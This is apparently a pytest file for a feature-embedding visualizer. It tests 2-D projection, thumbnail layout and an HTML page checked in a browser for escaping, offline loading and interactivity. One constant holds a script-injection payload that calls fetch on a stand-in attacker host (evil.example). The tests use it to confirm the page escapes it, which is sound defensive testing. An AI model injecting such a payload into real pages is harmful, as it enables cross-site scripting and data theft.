"""Embeddings in the plane: what they keep, and the page in a real browser: no error, no request, points that answer."""

from __future__ import annotations

import json
import re
import sys
from io import BytesIO
from pathlib import Path

import numpy as np
import pytest
import torch
from PIL import Image

from sslctl.data.source import ArraySource
from sslctl.errors import MachineError, SpecError
from sslctl.evaluate.features.extract import FeatureSet
from sslctl.visualize.projection import THUMB, project, render_page, subset, thumbnails

from ..browser import Browser

NASTY = "</script><script>fetch('http://evil.example')</script>"


def clusters(n: int = 30, width: int = 8) -> tuple[torch.Tensor, torch.Tensor]:
    """Features (3 n, width) of three well separated directions, and which."""
    rng = torch.Generator().manual_seed(0)
    label = torch.arange(3).repeat_interleave(n)
    return 4 * torch.eye(3, width)[label] + 0.2 * torch.randn(3 * n, width, generator=rng), label


@pytest.mark.parametrize("how", ["pca", pytest.param("umap", marks=pytest.mark.slow)])  # compiling it takes a minute
def test_what_is_near_stays_near(how: str) -> None:
    if how == "umap":
        pytest.importorskip("umap", reason="the extra of that name is not installed")
    x, label = clusters()
    places, about = project(x, how)
    assert places.shape == (90, 2) and how.upper() in about
    distance = np.linalg.norm(places[:, None] - places[None], axis=-1) + 1e9 * np.eye(90)
    assert (label[distance.argmin(1)] == label).all()


def test_the_length_of_a_feature_says_nothing() -> None:
    x, _ = clusters()
    places, about = project(x * torch.linspace(0.1, 3, 90)[:, None], "pca")
    assert np.allclose(places, project(x, "pca")[0], atol=1e-5)
    unit = torch.nn.functional.normalize(x, dim=1).double()
    kept = np.var(places, axis=0).sum() / float(((unit - unit.mean(0)) ** 2).sum(1).mean())
    assert about == f"PCA, {100 * kept:.0f} % of the variance"
    with pytest.raises(SpecError, match="2 images"):
        project(x[:2], "pca")


def test_without_umap_its_pip_line(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "umap", None)
    with pytest.raises(MachineError, match="umap-learn") as e:
        project(clusters()[0], "umap")
    assert "sslctl[umap]" in e.value.hint


def test_some_images_stand_for_a_large_set() -> None:
    source = ArraySource("set", np.zeros((10, 4, 4, 3), np.uint8))
    assert subset(source, 10) is source
    assert [subset(source, 4).item_name(i) for i in range(4)] == ["set[0]", "set[3]", "set[6]", "set[9]"]


def test_thumbnails_lie_in_rows() -> None:
    pixels = np.stack([np.full((20, 20, 3), 60 * i, np.uint8) for i in range(5)])
    with Image.open(BytesIO(thumbnails(ArraySource("set", pixels), [0, 1, 2, 4], 3))) as page:
        assert page.size == (3 * THUMB, 2 * THUMB)
        at = [page.getpixel((int((i % 3 + 0.5) * THUMB), int((i // 3 + 0.5) * THUMB))) for i in range(5)]
    assert [pixel[0] for pixel in at] == pytest.approx([0, 60, 120, 240, 128], abs=4)  # type: ignore[index]


def test_the_page_opens_without_a_network_and_answers(tmp_path: Path) -> None:
    x, label = clusters(4)
    pixels = np.zeros((12, 16, 16, 3), np.uint8) + np.arange(12, dtype=np.uint8)[:, None, None, None] * 20
    source = ArraySource(NASTY, pixels, label.numpy(), ["a & b", NASTY, "c"])
    features = FeatureSet(x, label, torch.arange(12), source.classes, [], source.name, "")
    places = np.stack([np.repeat([0.0, 0.5, 1.0], 4), np.tile([0.0, 0.3, 0.6, 1.0], 3)], 1).astype(np.float32)
    page = render_page(features, places, source, NASTY, "by hand")
    assert b"<script>fetch" not in page and not re.search(rb"(src|href)=[\"']?http", page)
    path = tmp_path / "page.html"
    path.write_bytes(page)
    with Browser() as browser:
        browser.open(path)
        answer = browser.run("JSON.stringify([data.x, data.names[3], data.classes])")
        xs, name, classes = json.loads(answer)
        assert xs == pytest.approx(places[:, 0], abs=1e-4) and classes == source.classes and name == source.item_name(3)
        painted = (
            "[...pen.getImageData(0, 0, canvas.width, canvas.height).data].filter((v, i) => i % 4 == 3 && v).length"
        )
        dots = browser.run(f"sprite.decode().then(() => {{ draw(); return {painted}; }})")
        assert dots > 12 * 20
        assert browser.run("document.querySelectorAll('#classes input').length") == 3
        assert browser.run("document.querySelector('#classes').textContent").replace(" 4", "|") == f"a & b|{NASTY}|c|"
        browser.run("document.querySelector('#classes input').click()")
        assert browser.run(painted) < 0.8 * dots  # a class less
        point = "const [x, y] = place(9), box = canvas.getBoundingClientRect();"
        move = "new PointerEvent('pointermove', {clientX: box.left + x + 3, clientY: box.top + y})"
        shown = browser.run(f"(() => {{ {point} canvas.dispatchEvent({move}); return card.textContent; }})()")
        assert shown == f"c · {source.item_name(9)}"
        browser.run("canvas.dispatchEvent(new WheelEvent('wheel', {deltaY: -400, clientX: 100, clientY: 100}))")
        assert browser.run("view.scale") == pytest.approx(np.e)
        browser.run("pictures.click()")
        assert browser.run(painted) > dots
        requests = [event["request"]["url"] for event in browser.said("Network.requestWillBeSent")]
        assert all(url.startswith(("file:", "data:")) for url in requests), requests
        assert not browser.said("Runtime.exceptionThrown") and not browser.said("Runtime.consoleAPICalled")
        errors = [event["entry"]["text"] for event in browser.said("Log.entryAdded")]
        assert not [text for text in errors if "getImageData" not in text], errors  # which is this test's doing
